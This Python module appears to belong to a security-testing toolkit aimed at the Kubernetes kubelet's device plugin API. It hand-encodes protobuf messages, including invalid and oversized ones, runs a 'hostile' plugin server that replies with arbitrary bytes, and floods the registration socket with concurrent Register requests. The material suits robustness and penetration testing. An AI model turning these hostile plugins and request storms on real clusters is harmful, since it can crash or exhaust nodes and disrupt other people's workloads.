"""Run a plugin that responds with arbitrary bytes, register it, and encode its messages.

This module encodes messages of the device plugin API without the protobuf library, because this is
faster, and because attacks also need invalid messages.
"""

from __future__ import annotations

import threading
from collections.abc import Callable, Iterable, Iterator
from concurrent.futures import ThreadPoolExecutor
from contextlib import contextmanager
from pathlib import Path
from typing import Any, Self

import attrs
import grpc

from podresources import sockets
from protos import deviceplugin_v1beta1 as dp
from protos import deviceplugin_v1beta1_grpc as dp_grpc
from tools.attack.model import Target

HOSTILE = "hostile.example.com/device"
HOSTILE_SOCKET = "hostile.sock"
LIMIT = 4 * 1024 * 1024
"""Default limit of gRPC for the size of a received message, in bytes."""


def varint(value: int) -> bytes:
    """Encode a number as a protobuf varint. A negative number has ten bytes."""
    value &= (1 << 64) - 1
    out = bytearray()
    while value > 0x7F:
        out.append(value & 0x7F | 0x80)
        value >>= 7
    out.append(value)
    return bytes(out)


def field(number: int, data: bytes) -> bytes:
    """Encode a protobuf field with a length, such as a string or message."""
    return varint(number << 3 | 2) + varint(len(data)) + data


_HEALTHY = field(2, b"Healthy")


def node(id_: int) -> bytes:
    """Encode a NUMANode for the topology of a device."""
    return field(1, varint(1 << 3) + varint(id_))


def device(id_: bytes, nodes: Iterable[int] = (), health: bytes = _HEALTHY) -> bytes:
    """Encode a Device for a device list."""
    topology = b"".join(map(node, nodes))
    return field(1, field(1, id_) + health + (field(3, topology) if topology else b""))


def filled(piece: bytes, limit: int = LIMIT) -> bytes:
    """Repeat a piece as often as it fits into ``limit`` bytes."""
    return piece * (limit // len(piece))


def cut(pieces: Iterable[bytes], limit: int = LIMIT) -> bytes:
    """Join as many pieces as fit into ``limit`` bytes."""
    out = bytearray()
    for piece in pieces:
        if len(out) + len(piece) > limit:
            break
        out += piece
    return bytes(out)


# -- the plugin --------------------------------------------------------------------------

_MOST_SECONDS = 60.0
Lists = Callable[[], Iterator[bytes]]
_SERVICE = dp_grpc.LIST_AND_WATCH.split("/")[1]
_UNLIMITED = [("grpc.max_send_message_length", -1), ("grpc.max_receive_message_length", -1)]


@attrs.define(eq=False)
class HostilePlugin:
    """Plugin server on one socket, for use in a ``with`` block. It responds with the given
    bytes."""

    path: Path
    lists: Lists
    allocate: Callable[[], bytes] = bytes
    options: Callable[[], bytes] = bytes
    workers: int = 64
    compression: grpc.Compression | None = None
    error: str = ""
    """Text of the error that ends a stream after its lists; empty for a stream that stays open."""
    sent: threading.Event = attrs.field(factory=threading.Event)
    """Event that is set when gRPC has accepted all lists of a stream, or the stream has ended."""
    _server: grpc.Server | None = None

    def __enter__(self) -> Self:
        handlers: dict[str, grpc.RpcMethodHandler[bytes, bytes]] = {
            "GetDevicePluginOptions": grpc.unary_unary_rpc_method_handler(
                lambda _, __: self.options()
            ),
            "ListAndWatch": grpc.unary_stream_rpc_method_handler(self._list),
            "Allocate": grpc.unary_unary_rpc_method_handler(lambda _, __: self.allocate()),
        }
        self._server = grpc.server(
            ThreadPoolExecutor(self.workers), options=_UNLIMITED, compression=self.compression
        )
        service = grpc.method_handlers_generic_handler(_SERVICE, handlers)
        self._server.add_generic_rpc_handlers((service,))
        self._server.add_insecure_port(sockets.target(self.path))
        self._server.start()
        return self

    def wait_until_sent(self) -> None:
        """Wait until ``sent``. Raises TimeoutError: lists that the kubelet has not received prove
        nothing."""
        if not self.sent.wait(_MOST_SECONDS):
            raise TimeoutError(f"the lists were not sent within {_MOST_SECONDS:g} s")

    def __exit__(self, *_: object) -> None:
        assert self._server is not None, "__exit__ is called after __enter__"
        # Stop without a grace period: handlers of an attack may never return.
        self._server.stop(0)

    def _list(self, request: bytes, context: grpc.ServicerContext) -> Iterator[bytes]:
        context.add_callback(self.sent.set)
        yield from self.lists()
        self.sent.set()
        if self.error:
            context.abort(grpc.StatusCode.INTERNAL, self.error)
        ended = threading.Event()
        if context.add_callback(ended.set):
            ended.wait()


@contextmanager
def hostile_plugin(target: Target, lists: Lists, **options: Any) -> Iterator[HostilePlugin]:
    """Serve and register a plugin of the resource ``HOSTILE`` during a ``with`` block."""
    with HostilePlugin(target.plugin_dir / HOSTILE_SOCKET, lists, **options) as plugin:
        register(target, HOSTILE_SOCKET, HOSTILE)
        yield plugin


def register(target: Target, endpoint: str, resource: str, timeout: float = 60.0) -> None:
    """Call Register for a plugin. Raises grpc.RpcError if the kubelet rejects it."""
    request = dp.RegisterRequest(version="v1beta1", endpoint=endpoint, resource_name=resource)
    with channel(target) as connection:
        dp_grpc.RegistrationStub(connection).Register(request, timeout=timeout)


def storm(target: Target, requests: Iterable[dp.RegisterRequest], seconds: float) -> None:
    """Send all Register requests concurrently over a few connections, and wait up to ``seconds``
    for responses."""
    connections = [channel(target) for _ in range(16)]
    stubs = [dp_grpc.RegistrationStub(each) for each in connections]
    calls = [
        stubs[number % len(stubs)].Register.future(request, timeout=seconds)
        for number, request in enumerate(requests)
    ]
    # Errors are expected. Only wait until the calls have ended.
    for call in calls:
        call.exception()
    for connection in connections:
        connection.close()


def channel(target: Target) -> grpc.Channel:
    """Open a new connection to the Registration service."""
    # Do not share a subchannel: calls on it would wait for each other.
    options = [*_UNLIMITED, ("grpc.use_local_subchannel_pool", 1)]
    return grpc.insecure_channel(sockets.target(target.registration), options)
